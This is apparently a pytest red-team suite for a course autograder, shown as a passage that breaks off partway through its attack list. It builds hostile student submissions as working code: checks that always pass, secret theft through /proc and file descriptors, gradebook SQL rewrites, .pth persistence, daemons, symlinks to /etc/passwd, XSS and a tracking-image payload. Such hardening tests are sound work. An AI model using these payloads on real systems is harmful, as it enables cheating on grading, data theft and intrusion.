"""Red team: a class of hostile submissions against ``course autograde`` (issue 7).

One batch per assignment, graded as the instructor grades: a scratch copy of the course,
``course release``, the submissions written into ``downloads/``, ``course collect``, ``course
autograde --workers 2`` (short cell timeout), ``course feedback``, ``course export``. The
instructor plants two secrets before grading: a file ``source/<ps>/SECRET_TOKEN.txt`` and an
environment variable ``COURSE_SECRET`` of the grader. Every attack is a submission notebook (or a
folder of odd files) that a determined student could hand in, written without knowledge of the
grader's insides; every honest submission is a correct solution with habits that must not cost
points (stderr, tqdm, own helpers, a crash or a hang after the tests).

What is asserted, per student and for the batch:

- an attack scores no more than the untouched stub (0), an honest submission scores full marks;
- neither secret appears in any output, notebook, feedback page, CSV, report or log line;
- the gradebook holds exactly the students' own grades, and the files of the course folder that
  the grader does not own are unchanged; nothing appears in the sentinel folders outside the
  course (host ``/tmp``, a victim folder), no victim file changes;
- no process started by a submission is alive after the batch (their command lines carry a
  marker, and ``ps`` must not show it);
- no connection reaches a socket that the test listens on at 127.0.0.1;
- the feedback HTML runs no script of the student's, and no report line is forged.

When an attack succeeds the assertion fails on purpose: the fix belongs to the grader.
"""

from __future__ import annotations

import hashlib
import html.parser
import json
import os
import re
import secrets
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

pytestmark = pytest.mark.grading

ROOT = Path(__file__).resolve().parents[1]
COURSE_SRC = ROOT / "assignments"
BIN = Path(sys.executable).parent
CELL_TIMEOUT = 8
FILE_TOKEN = "rtfiletok" + secrets.token_hex(12)
ENV_TOKEN = "rtenvtok" + secrets.token_hex(12)
MARK = "rtmark" + secrets.token_hex(6)   # in the command line of every process an attack starts
XSS = "rtxss" + secrets.token_hex(4)     # in every script an attack tries to run in the feedback

# ---------------------------------------------------------------------------------------------
# building submissions
# ---------------------------------------------------------------------------------------------


def solutions(assignment: str) -> dict[str, str]:
    """grade_id -> the instructor's solution cell, without the solution markers."""
    nb = json.loads((COURSE_SRC / "source" / assignment / f"{assignment}.ipynb").read_text())
    out = {}
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution"):
            src = "".join(cell["source"])
            out[meta["grade_id"]] = "\n".join(
                line for line in src.split("\n")
                if "BEGIN SOLUTION" not in line and "END SOLUTION" not in line)
    return out


@dataclass
class Sub:
    """One student: what replaces the answer cells, what is added, and odd files."""

    name: str
    what: str
    cells: dict[str, str] = field(default_factory=dict)       # grade_id -> source
    extra: list[tuple[int, str]] = field(default_factory=list)  # (position, code) inserted
    markdown: list[tuple[int, str]] = field(default_factory=list)
    files: Callable[[Path, dict], None] | None = None         # writes odd files in the folder
    honest: bool = False
    assignment: str = "ps1"
    poison: bool = False   # graded in a second run, beside one honest neighbour
    forbidden: list[str] = field(default_factory=list)  # must not appear in its outputs


def _fill(src: str, ctx: dict) -> str:
    for key, value in ctx.items():
        src = src.replace(f"@{key}@", str(value))
    return src


def write_submission(course: Path, sub: Sub, ctx: dict) -> None:
    folder = course / "downloads" / sub.name
    folder.mkdir(parents=True, exist_ok=True)
    rel = json.loads((course / "release" / sub.assignment / f"{sub.assignment}.ipynb").read_text())
    for cell in rel["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in sub.cells:
            cell["source"] = _fill(sub.cells[gid], ctx)
    inserts = [(pos, {"cell_type": "code", "metadata": {}, "source": _fill(src, ctx),
                      "outputs": [], "execution_count": None}) for pos, src in sub.extra]
    inserts += [(pos, {"cell_type": "markdown", "metadata": {}, "source": _fill(src, ctx)})
                for pos, src in sub.markdown]
    for pos, cell in sorted(inserts, key=lambda item: item[0], reverse=True):
        rel["cells"].insert(len(rel["cells"]) if pos < 0 else pos, cell)
    (folder / f"{sub.assignment}.ipynb").write_text(json.dumps(rel))
    if sub.files is not None:
        sub.files(folder, ctx)


# ---------------------------------------------------------------------------------------------
# ps1: the attacks
# ---------------------------------------------------------------------------------------------

SOL1 = solutions("ps1")
SOL3 = solutions("ps3")
END = -1  # position: after the last cell

STUB1 = {  # answers that compute nothing (what a student who did nothing hands in)
    "dE_dw": "def dE_dw(w, x, y):\n    return 0.0\n",
    "update": "def update(w, x, y, mu):\n    return w\n",
    "train": "def train(w0, mu, steps, xs=(0.0, 1.0)):\n    return np.full(steps + 1, w0)\n",
}

ATTACKS: list[Sub] = []


def attack(name: str, what: str, **kw) -> None:
    ATTACKS.append(Sub(name=name, what=what, **kw))


# -- points without implementing --------------------------------------------------------------

attack("atk_ast_transformer", "IPython AST and input transformers turn every later cell into "
       "`pass`", cells=STUB1, extra=[(2, r'''
import ast
ip = get_ipython()
class Blank(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[])
def blank_lines(lines):
    return ["pass\n"] if any("check_" in l or "assert" in l for l in lines) else lines
ip.input_transformers_cleanup.append(blank_lines)
ip.input_transformers_post.append(blank_lines)
ip.ast_transformers.append(Blank())
''')])

attack("atk_trace_profile", "sys.settrace/setprofile (and threading's) rewrite locals and "
       "verdicts while checks run", cells=STUB1, extra=[(2, r'''
import sys, threading
def tracer(frame, event, arg):
    for k in list(frame.f_locals):
        if k in ("ok", "passed", "result", "verdict", "failed", "errors", "mistake"):
            try:
                frame.f_locals[k] = (k in ("ok", "passed", "result", "verdict"))
            except Exception:
                pass
    return tracer
sys.settrace(tracer); threading.settrace(tracer)
sys.setprofile(lambda f, e, a: tracer(f, e, a)); threading.setprofile(lambda f, e, a: None)
''')])

attack("atk_displayhook_errors", "displayhook, custom exception handler and run_cell wrapper "
       "that clears every error", cells=STUB1, extra=[(2, r'''
import sys
ip = get_ipython()
sys.displayhook = lambda value: print(5)
ip.displayhook.__class__.__call__ = lambda self, value=None: None
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
ip.showtraceback = lambda *a, **k: None
_orig = ip.run_cell
def run_cell(*a, **k):
    r = _orig(*a, **k)
    r.error_in_exec = None; r.error_before_exec = None
    ip.display_pub.publish({"text/plain": "5"})
    return r
ip.run_cell = run_cell
try:
    _orig_async = ip.run_cell_async
    async def run_cell_async(*a, **k):
        r = await _orig_async(*a, **k)
        r.error_in_exec = None; r.error_before_exec = None
        return r
    ip.run_cell_async = run_cell_async
except Exception:
    pass
''')])

attack("atk_lying_objects", "answers whose __eq__, __float__, __array__, comparisons and "
       "arithmetic all lie", cells={
           "dE_dw": r'''
import numpy as _np
class Liar(float):
    def __new__(cls, v=-0.125): return float.__new__(cls, v)
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __lt__(self, o): return True
    def __le__(self, o): return True
    def __gt__(self, o): return True
    def __ge__(self, o): return True
    def __abs__(self): return 0.0
    def __sub__(self, o): return Liar(0.0)
    def __rsub__(self, o): return Liar(0.0)
    def __float__(self): return -0.125
    def __bool__(self): return True
    def __array__(self, dtype=None, copy=None): return _np.array(-0.125)
    def __hash__(self): return 0
def dE_dw(w, x, y):
    return Liar()
''', "update": "def update(w, x, y, mu):\n    return Liar(0.25)\n",
           "train": r'''
class LyingArray(_np.ndarray):
    def __eq__(self, o): return _np.ones(self.shape, bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kw):
        return _np.ones(11, bool) if ufunc.nout == 1 else (_np.ones(11, bool),)
    def __array_function__(self, func, types, args, kwargs):
        return True
def train(w0, mu, steps, xs=(0.0, 1.0)):
    return _np.arange(steps + 1, dtype=float).view(LyingArray)
'''})

attack("atk_hardcode_visible", "hard-codes the values the visible tests show, computes nothing "
       "else", cells={
           "dE_dw": "def dE_dw(w, x, y):\n    return -0.125\n",
           "update": "def update(w, x, y, mu):\n    return 0.25\n",
           "train": "def train(w0, mu, steps, xs=(0.0, 1.0)):\n"
                    "    return w0 + np.arange(steps + 1, dtype=float)\n",
       })

attack("atk_withheld_direct", "calls course_pkg.identity_sigmoid's own dE_dw/update/train",
       cells={
           "dE_dw": "from course_pkg import identity_sigmoid as _ref\n"
                    "def dE_dw(w, x, y):\n    return _ref.dE_dw(w, x, y)\n",
           "update": "def update(w, x, y, mu):\n    return _ref.update(w, x, y, mu)\n",
           "train": "def train(w0, mu, steps, xs=(0.0, 1.0)):\n"
                    "    return _ref.train(w0, mu, steps, xs)\n",
       })

attack("atk_withheld_hunt", "hunts the real reference: any file on disk defining dE_dw, gc, "
       "importlib from the instructor's tree, __wrapped__/closures", cells={"dE_dw": r'''
import gc, importlib.util, os, sys, types
_found = {}
def _harvest(ns):
    for k in ("dE_dw", "update", "train"):
        f = ns.get(k)
        if callable(f) and "withheld" not in repr(getattr(f, "__code__", "")):
            try:
                f(0.3, 1.0, 1.0) if k == "dE_dw" else None
                _found.setdefault(k, f)
            except Exception:
                pass
for root in ["/work", "/opt", "/root", "/usr/lib/python3", "/tmp", "/home"]:
    for dirpath, dirs, files in os.walk(root):
        if "site-packages" in dirpath and "course" not in dirpath:
            dirs[:] = []
            continue
        for fn in files:
            if fn.endswith(".py") and fn != "__init__.py":
                p = os.path.join(dirpath, fn)
                try:
                    txt = open(p).read()
                except Exception:
                    continue
                if "def dE_dw" in txt and "withheld" not in txt:
                    ns = {"__name__": "x"}
                    try:
                        exec(compile(txt, p, "exec"), ns)
                        _harvest(ns)
                    except Exception:
                        pass
for o in gc.get_objects():
    if isinstance(o, types.FunctionType) and o.__name__ in ("dE_dw", "update", "train"):
        for c in (o.__closure__ or ()):
            try:
                v = c.cell_contents
            except ValueError:
                continue
            if callable(v):
                _harvest({o.__name__: v})
        w = getattr(o, "__wrapped__", None)
        if w is not None:
            _harvest({o.__name__: w})
print("found", sorted(_found))
def dE_dw(w, x, y):
    return _found["dE_dw"](w, x, y)
''', "update": "def update(w, x, y, mu):\n    return _found['update'](w, x, y, mu)\n",
     "train": "def train(w0, mu, steps, xs=(0.0, 1.0)):\n"
              "    return _found['train'](w0, mu, steps, xs)\n"})

attack("atk_ref_graph", "course_pkg.graph's back-propagation on a one-edge sigmoid graph gives "
       "dE/dw (the reference back-propagation, reached through another module)", cells={
           "dE_dw": r'''
from course_pkg.graph import Graph as _G
def dE_dw(w, x, y):
    g = _G(inputs=["x"], nodes={"o": "sigmoid"}, edges={("x", "o"): float(w)}, outputs=["o"])
    return float(list(g.gradient([float(x)], [float(y)]).values())[0])
''', "update": r'''
def update(w, x, y, mu):
    g = _G(inputs=["x"], nodes={"o": "sigmoid"}, edges={("x", "o"): float(w)}, outputs=["o"])
    return float(g.update([float(x)], [float(y)], float(mu)).weights[0])
''', "train": r'''
def train(w0, mu, steps, xs=(0.0, 1.0)):
    out = [float(w0)]
    for i in range(steps):
        x = xs[i % len(xs)]
        out.append(update(out[-1], x, x, mu))
    return np.array(out)
'''})

attack("atk_ref_node_delta", "course_pkg.node_delta.update (seed 003's delta rule) does the "
       "step; dE/dw read back from a unit step", cells={
           "dE_dw": r'''
from course_pkg import node_delta as _nd
def update(w, x, y, mu):
    return float(_nd.update([np.array([[float(w)]])], np.array([float(x)]),
                            np.array([float(y)]), float(mu))[0][0, 0])
def dE_dw(w, x, y):
    return float(w) - update(w, x, y, 1.0)
''', "update": "pass\n", "train": r'''
def train(w0, mu, steps, xs=(0.0, 1.0)):
    out = [float(w0)]
    for i in range(steps):
        x = xs[i % len(xs)]
        out.append(update(out[-1], x, x, mu))
    return np.array(out)
'''})

attack("atk_ref_finite_differences", "course_pkg.gradcheck.central_differences of E(A(wx), y) "
       "instead of the chain rule", cells={
           "dE_dw": r'''
from course_pkg.gradcheck import central_differences as _cd
def dE_dw(w, x, y):
    return float(np.ravel(_cd(lambda v: float(E(A(float(np.ravel(v)[0]) * x), y)),
                              np.array([float(w)])))[0])
''', "update": "def update(w, x, y, mu):\n    return w - mu * dE_dw(w, x, y)\n",
           "train": SOL1["train"]})

attack("atk_shadow_test_names", "redefines every name the test cells use (check_*, np, float, "
       "AssertionError) so that a test run in its namespace passes", cells={
           **STUB1, "train": STUB1["train"] + r'''
class _Anything:
    shape = (11,)
    def __getattr__(self, k): return _Anything()
    def __call__(self, *a, **k): return _Anything()
    def __getitem__(self, k): return _Anything()
    def __bool__(self): return True
    def __eq__(self, o): return True
    def __float__(self): return 0.0
    def __iter__(self): return iter(())
def check_dE_dw(*a, **k): return None
def check_update(*a, **k): return None
def check_train(*a, **k): return None
np = _Anything()
def float(v): return -0.125 if v is not None else 0.0
def all(*a): return True
'''})

attack("atk_fake_checks_module", "plants course_pkg.checks.* modules of its own (sys.modules and a "
       "package on sys.path) whose checks always pass", cells=STUB1, extra=[(1, r'''
import os, sys, types
os.makedirs("/tmp/fake/course_pkg/checks", exist_ok=True)
open("/tmp/fake/course_pkg/__init__.py", "w").write("")
open("/tmp/fake/course_pkg/checks/__init__.py", "w").write("")
open("/tmp/fake/course_pkg/checks/identity_sigmoid.py", "w").write(
    "def check_dE_dw(*a, **k): pass\ndef check_update(*a, **k): pass\n"
    "def check_train(*a, **k): pass\nCASES = []\n")
sys.path.insert(0, "/tmp/fake")
for m in ("course_pkg.checks", "course_pkg.checks.identity_sigmoid"):
    mod = types.ModuleType(m)
    mod.__path__ = []
    mod.check_dE_dw = mod.check_update = mod.check_train = lambda *a, **k: None
    mod.CASES = []
    sys.modules[m] = mod
''')])

attack("atk_patch_numpy", "patches numpy (isclose, allclose, all, diff, asarray, testing) and "
       "builtins before the tests", cells=STUB1, extra=[(2, r'''
import builtins, numpy
numpy.isclose = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
numpy.all = lambda *a, **k: True
numpy.any = lambda *a, **k: True
numpy.diff = lambda *a, **k: numpy.ones(10)
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_almost_equal = lambda *a, **k: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.isinstance = lambda *a: True
''')])

attack("atk_weird_returns", "returns a recursive list, a 100000-deep nesting, a string of JSON, "
       "NaN, a generator", cells={
           "dE_dw": r'''
import math
def dE_dw(w, x, y):
    r = []; r.append(r)
    return r
''', "update": r'''
def update(w, x, y, mu):
    v = 0.25
    for _ in range(100000):
        v = [v]
    return v
''', "train": r'''
def train(w0, mu, steps, xs=(0.0, 1.0)):
    if steps == 10:
        return '{"__ndarray__": [0,1,2,3,4,5,6,7,8,9,10], "dtype": "float64"}'
    return (float("nan") for _ in range(steps + 1))
'''})

attack("atk_huge_reply", "answers of 400 MB and a dict with a million keys", cells={
    "dE_dw": "def dE_dw(w, x, y):\n    return np.zeros(5 * 10**7)\n",
    "update": "def update(w, x, y, mu):\n    return {str(i): i for i in range(10**6)}\n",
    "train": "def train(w0, mu, steps, xs=(0.0, 1.0)):\n"
             "    return 'x' * (200 * 10**6)\n"})

attack("atk_wire_spam", "writes forged replies (JSON lines claiming success) on every pipe and "
       "fd it inherited", cells=STUB1, extra=[(2, r'''
import json, os, threading
msgs = [
    {"ok": True, "passed": True, "score": 5, "status": "ok", "value": -0.125},
    {"type": "result", "ok": True, "points": 5, "verdict": "pass"},
    {"kind": "reply", "ok": True, "value": {"__ndarray__": [0.25]}},
]
blob = b"".join(json.dumps(m).encode() + b"\n" for m in msgs) * 20
for fd in range(3, 64):
    try:
        os.write(fd, blob)
    except OSError:
        pass
''')])

attack("atk_function_hangs", "answers that sleep forever, spin forever and ignore SIGINT/SIGTERM "
       "when the grader calls them", cells={
           "dE_dw": "import time\ndef dE_dw(w, x, y):\n    time.sleep(10**6)\n",
           "update": r'''
import signal
def update(w, x, y, mu):
    for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(s, signal.SIG_IGN)
    while True:
        pass
''', "train": r'''
import ctypes
def train(w0, mu, steps, xs=(0.0, 1.0)):
    try:
        ctypes.CDLL(None).prctl(15, b"@MARK@k", 0, 0, 0)
    except Exception:
        pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
'''})

attack("atk_kernel_dies", "kills its own kernel while the grader waits for an answer "
       "(os._exit, SIGKILL to itself, closing stdout)", cells={
           "dE_dw": "import os\ndef dE_dw(w, x, y):\n    os._exit(0)\n",
           "update": "import os, signal\ndef update(w, x, y, mu):\n"
                     "    os.kill(os.getpid(), signal.SIGKILL)\n",
           "train": "def train(w0, mu, steps, xs=(0.0, 1.0)):\n    raise SystemExit(0)\n"})

# -- secrets ------------------------------------------------------------------------------------

attack("atk_secret_env", "prints its environment, /proc/*/environ and cmdline of every process "
       "it can see", cells=STUB1, forbidden=["@COURSE@"], extra=[(2, r'''
import os
print(dict(os.environ))
for pid in os.listdir("/proc"):
    if pid.isdigit() or pid == "self":
        for what in ("environ", "cmdline"):
            try:
                print(pid, what, open(f"/proc/{pid}/{what}", "rb").read())
            except Exception as e:
                print(pid, what, "ERR", e)
''')])

attack("atk_secret_files", "walks every folder it can see for SECRET files, notebooks, "
       "gradebooks and sources, and prints them", cells=STUB1, extra=[(2, r'''
import os
seen = 0
for root in ["@COURSE@", "/", "/proc/1/root", "/proc/self/root", "/proc/1/cwd"]:
    for dirpath, dirs, files in os.walk(root):
        if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")) and root == "/":
            dirs[:] = []
            continue
        if "site-packages" in dirpath or "versions" in dirpath:
            dirs[:] = []
            continue
        for fn in files:
            if any(s in fn for s in ("SECRET", "TOKEN", ".ipynb", "gradebook", ".txt", ".json")):
                p = os.path.join(dirpath, fn)
                try:
                    data = open(p, "rb").read(200000)
                except Exception as e:
                    print(p, "ERR", e)
                    continue
                seen += 1
                print(p, data[:3000])
for p in ["@COURSE@/source/ps1/SECRET_TOKEN.txt", "../source/ps1/SECRET_TOKEN.txt",
          "../../source/ps1/SECRET_TOKEN.txt", "../../../source/ps1/SECRET_TOKEN.txt",
          "/proc/1/cwd/source/ps1/SECRET_TOKEN.txt", "/proc/1/cwd/../source/ps1/SECRET_TOKEN.txt",
          "@COURSE@/gradebook.db", "/root/.bashrc"]:
    try:
        print(p, open(p, "rb").read()[:2000])
    except Exception as e:
        print(p, "ERR", e)
print("files seen", seen)
''')])

attack("atk_secret_fds", "reopens its inherited descriptors through /proc/self/fd (the grader's "
       "log), /proc/1/fd, mem and maps of the processes it can see", cells=STUB1,
       forbidden=["@COURSE@", "/.grading/", "worker.log", "SAWarning"], extra=[(2, r'''
import os, time
time.sleep(3)   # let classmates on the same worker write their logs first
for pid in ("self", "1"):
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except Exception as e:
        print(pid, "ERR", e); continue
    for fd in fds:
        p = f"/proc/{pid}/fd/{fd}"
        try:
            print(p, os.readlink(p))
            print(open(p, "rb").read(10**6)[-200000:])
        except Exception as e:
            print(p, "ERR", e)
for p in ("/proc/self/mountinfo", "/proc/1/mountinfo", "/proc/self/cgroup"):
    try:
        print(p, open(p).read())
    except Exception as e:
        print(p, "ERR", e)
try:
    maps = open("/proc/1/maps").read().splitlines()
    mem = open("/proc/1/mem", "rb")
    for line in maps:
        if "[stack]" in line or "[heap]" in line:
            lo, hi = (int(v, 16) for v in line.split()[0].split("-"))
            mem.seek(lo); print("MEM", mem.read(hi - lo)[-100000:])
except Exception as e:
    print("mem ERR", e)
''')])

attack("atk_gradebook_sql", "looks for every gradebook.db it can reach and rewrites grades with "
       "sqlite3 (its own to full, classmates' to 0), then holds an exclusive lock",
       cells=STUB1, extra=[(2, r'''
import os, sqlite3, threading, time
cands = ["@COURSE@/gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
         "/proc/1/cwd/gradebook.db", "/proc/1/cwd/../gradebook.db"]
for dirpath, dirs, files in os.walk("/"):
    if dirpath.startswith(("/proc", "/sys", "/usr")):
        dirs[:] = []; continue
    cands += [os.path.join(dirpath, f) for f in files if f.endswith(".db")]
for p in cands:
    try:
        con = sqlite3.connect(p, timeout=1)
        con.execute("UPDATE grade SET manual_score = max_score, auto_score = 0")
        con.commit()
        con.execute("BEGIN EXCLUSIVE")
        print("LOCKED", p)
        time.sleep(3)
    except Exception as e:
        print(p, "ERR", e)
''')])

# -- writing outside, persistence, network -------------------------------------------------------

attack("atk_write_outside", "writes into the course folder, the sentinel folder on the host, "
       "site-packages (.pth), the home folder and /tmp for a later classmate", cells=STUB1,
       extra=[(2, r'''
import os, site, sys
targets = ["@COURSE@/pwned.txt", "@COURSE@/source/ps1/pwned.txt", "@SENT@/pwned.txt",
           "@SENT@/victim.txt", "/tmp/@MARK@_persist", "/dev/shm/@MARK@_persist",
           "/root/.bashrc", "/proc/1/cwd/pwned.txt", "/proc/1/cwd/source/pwned.txt"]
targets += [os.path.join(p, "zz_@MARK@.pth") for p in site.getsitepackages() + sys.path if p]
for t in targets:
    try:
        with open(t, "a") as f:
            f.write("import os; os.system('touch @SENT@/pth_ran')  # @MARK@\n")
        print("WROTE", t)
    except Exception as e:
        print(t, "ERR", e)
''')])

attack("atk_read_persisted", "a later classmate looks for what an earlier submission left in "
       "/tmp, /dev/shm and home", cells=STUB1, extra=[(2, r'''
import glob, os
for p in glob.glob("/tmp/*@MARK@*") + glob.glob("/dev/shm/*@MARK@*") + glob.glob("/tmp/fake/*"):
    print("PERSIST" + "FOUND", p)
''')])

attack("atk_daemons", "double-forked, setsid daemons and a nohup'd subprocess that ignore "
       "SIGTERM/SIGHUP and sleep for ten minutes", cells=STUB1, extra=[(2, r'''
import os, subprocess, sys
code = ("import signal, time\n"
        "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
        "    signal.signal(s, signal.SIG_IGN)\n"
        "time.sleep(600)\n")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, "@MARK@", "daemon"])
    os._exit(0)
subprocess.Popen(["sh", "-c", "trap '' TERM HUP INT; sleep 600; : @MARK@"],
                 start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["nohup", sys.executable, "-c", code, "@MARK@", "nohup"],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
''')])

attack("atk_exit_blockers", "threads and atexit handlers that keep the kernel alive, and a "
       "multiprocessing pool spinning forever", cells=STUB1, extra=[(2, r'''
import atexit, ctypes, multiprocessing, threading, time
def spin():
    while True:
        time.sleep(0.01)
threading.Thread(target=spin).start()
atexit.register(lambda: time.sleep(600))
def burn(_):
    try:
        ctypes.CDLL(None).prctl(15, b"@MARK@m", 0, 0, 0)
    except Exception:
        pass
    while True:
        pass
pool = multiprocessing.get_context("fork").Pool(2)
pool.map_async(burn, range(2))
''')])

attack("atk_network", "connects to a socket the test listens on at 127.0.0.1, sends UDP, "
       "resolves names", cells=STUB1, extra=[(2, r'''
import socket
for fam, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
    try:
        s = socket.socket(fam, kind); s.settimeout(2)
        s.connect(("127.0.0.1", @PORT@)); s.sendall(b"@MARK@")
        print("CONNECTED", kind)
    except Exception as e:
        print("ERR", e)
for host in ("pypi.org", "localhost"):
    try:
        print(host, socket.getaddrinfo(host, 443))
    except Exception as e:
        print(host, "ERR", e)
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\0@MARK@"); print("ABSTRACT CONNECTED")
except Exception as e:
    print("ERR", e)
''')])

# -- odd files in the submission folder ---------------------------------------------------------


def _replace_nb_with_link(target: str) -> Callable[[Path, dict], None]:
    def make(folder: Path, ctx: dict) -> None:
        nb = folder / "ps1.ipynb"
        nb.unlink()
        nb.symlink_to(_fill(target, ctx))
    return make


attack("atk_link_passwd", "ps1.ipynb is a symlink to /etc/passwd",
       files=_replace_nb_with_link("/etc/passwd"))
attack("atk_link_source_abs", "ps1.ipynb is an absolute symlink to the instructor's source "
       "notebook (solutions and hidden tests)",
       files=_replace_nb_with_link("@COURSE@/source/ps1/ps1.ipynb"))
attack("atk_link_source_rel2", "ps1.ipynb is a relative symlink ../../source/ps1/ps1.ipynb",
       files=_replace_nb_with_link("../../source/ps1/ps1.ipynb"))
attack("atk_link_source_rel3", "ps1.ipynb is a relative symlink ../../../source/ps1/ps1.ipynb",
       files=_replace_nb_with_link("../../../source/ps1/ps1.ipynb"))
attack("atk_link_loop", "ps1.ipynb is a symlink loop", files=_replace_nb_with_link("ps1.ipynb"))


def _odd_files(folder: Path, ctx: dict) -> None:
    course, sent = ctx["COURSE"], ctx["SENT"]
    links = {
        "gradebook.db": f"{course}/gradebook.db",
        "secret.txt": f"{course}/source/ps1/SECRET_TOKEN.txt",
        "rel_secret.txt": "../../source/ps1/SECRET_TOKEN.txt",
        "rel_secret3.txt": "../../../source/ps1/SECRET_TOKEN.txt",
        "victim.txt": f"{sent}/victim.txt",
        "timestamp.txt": f"{sent}/victim_ts.txt",
        "loop": "loop",
        "dirloop": ".",
        "up": "..",
        "source": f"{course}/source",
        "solutions.ipynb": f"{course}/source/ps1/ps1.ipynb",
    }
    for name, target in links.items():
        (folder / name).symlink_to(target)
    os.mkfifo(folder / "pipe.fifo")
    with open(folder / "big.bin", "wb") as f:   # 3 GB, sparse here; a copy writes it for real
        f.truncate(3 * 2**30)
    (folder / "name\nhon_plain: 0 of 5.txt").write_text("x")
    (folder / "\x1b[2Jesc.txt").write_text("x")


attack("atk_odd_files", "a stub notebook beside links to the gradebook, the secret, a victim "
       "file (also as timestamp.txt), loops, .., a FIFO, a 3 GB sparse file and names with "
       "newlines and escapes", cells=STUB1, files=_odd_files)


def _fifo_notebook(folder: Path, ctx: dict) -> None:
    (folder / "ps1.ipynb").unlink()
    os.mkfifo(folder / "ps1.ipynb")


attack("atk_fifo_notebook", "ps1.ipynb is a FIFO (a reader blocks forever)", files=_fifo_notebook)


def _huge_notebook(folder: Path, ctx: dict) -> None:
    nb = json.loads((folder / "ps1.ipynb").read_text())
    nb["cells"][-1]["outputs"] = [{"output_type": "stream", "name": "stdout",
                                   "text": "y" * (300 * 2**20)}]
    (folder / "ps1.ipynb").write_text(json.dumps(nb))


attack("atk_huge_notebook", "a 300 MB notebook (a stored output) with stub answers",
       cells=STUB1, files=_huge_notebook)


def _deep_json(folder: Path, ctx: dict) -> None:
    nb = (folder / "ps1.ipynb").read_text()
    nb = nb[:-1] + ', "deep": ' + "[" * 200000 + "]" * 200000 + "}"
    (folder / "ps1.ipynb").write_text(nb)


attack("atk_deep_json", "a notebook with 200000 nested JSON lists", cells=STUB1,
       files=_deep_json, poison=True)


def _bigint_json(folder: Path, ctx: dict) -> None:
    nb = (folder / "ps1.ipynb").read_text()
    (folder / "ps1.ipynb").write_text(nb[:-1] + ', "big": ' + "7" * 5000 + "}")


attack("atk_bigint_json", "a notebook holding a 5000-digit integer (Python refuses to parse "
       "it: ValueError, not JSONDecodeError)", cells=STUB1, files=_bigint_json, poison=True)

attack("atk_frame_bigint", "a cell writes its own reply frame on the kernel's reply pipe: a "
       "JSON object with a 5000-digit integer", cells=STUB1, poison=True, extra=[(2, r'''
import os, struct, sys
body = b'{"ok": true, "outputs": [], "n": ' + b"7" * 5000 + b"}"
os.write(int(sys.argv[2]), struct.pack(">Q", len(body)) + body)
''')])

attack("atk_frame_desync", "cells and answers write extra reply frames ahead (an exec reply "
       "with outputs, lookups that say 'value', calls that say ok), so that every later reply "
       "the grader reads is one the student forged", cells={
           "dE_dw": r'''
import json, os, struct, sys
_fd = int(sys.argv[2])
def _frame(msg):
    body = json.dumps(msg).encode()
    os.write(_fd, struct.pack(">Q", len(body)) + body)
for _ in range(50):
    _frame({"ok": True, "value": -0.125, "kind": "callable", "printed": "",
            "outputs": [{"output_type": "execute_result", "data": {"text/plain": "5"}}]})
def dE_dw(w, x, y):
    for _ in range(5):
        _frame({"ok": True, "value": -0.125, "kind": "callable", "printed": ""})
    return -0.125
''', "update": STUB1["update"], "train": STUB1["train"]})


def _symlinked_folder(folder: Path, ctx: dict) -> None:
    shutil.rmtree(folder)
    folder.symlink_to(Path(ctx["COURSE"]) / "source" / "ps1")


attack("atk_folder_link", "the student's download folder itself is a symlink to source/ps1",
       files=_symlinked_folder)

# -- output floods, feedback HTML, report forging --------------------------------------------------

attack("atk_output_flood", "prints 100 MB in one write and 200000 lines, in the answer "
       "cells and in the functions the tests call", cells={
           "dE_dw": "print('x' * 10**8)\nfor i in range(2 * 10**5):\n    print(i)\n"
                    + STUB1["dE_dw"].replace("    return", "    print('z' * 10**7)\n    return"),
           "update": STUB1["update"], "train": STUB1["train"]})

attack("atk_huge_image", "displays a 60 MB PNG and 20 MB of HTML", cells=STUB1, extra=[(2, r'''
import base64, os
from IPython.display import publish_display_data
png = b"\x89PNG\r\n\x1a\n" + os.urandom(45 * 2**20)
publish_display_data({"image/png": base64.b64encode(png).decode(), "text/plain": "img"})
publish_display_data({"text/html": "<b>" * (5 * 2**20), "text/plain": "html"})
''')])

attack("atk_xss", "scripts in outputs (HTML, JavaScript, SVG, Markdown, error text, stdout) and "
       "in markdown cells, aimed at the feedback page", cells=STUB1, extra=[(2, r'''
from IPython.display import publish_display_data
payload = ('<script>@XSS@()</script><img src=x onerror="@XSS@()">'
           '<svg onload="@XSS@()"></svg><a href="javascript:@XSS@()">x</a>'
           '<iframe src="javascript:@XSS@()"></iframe></pre></div><script>@XSS@()</script>')
publish_display_data({"text/html": payload, "application/javascript": "@XSS@()",
                      "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="@XSS@()"/>',
                      "text/markdown": payload, "text/plain": payload})
print(payload)
''')], markdown=[(2, "<script>@XSS@()</script>\n\n<img src=x onerror=\"@XSS@()\">\n\n"
                     "[x](javascript:@XSS@())\n\n<iframe src=\"javascript:@XSS@()\"></iframe>\n\n"
                     "![t](http://rt-track.invalid/@XSS@.png) [d](data:text/html,@XSS@)"),
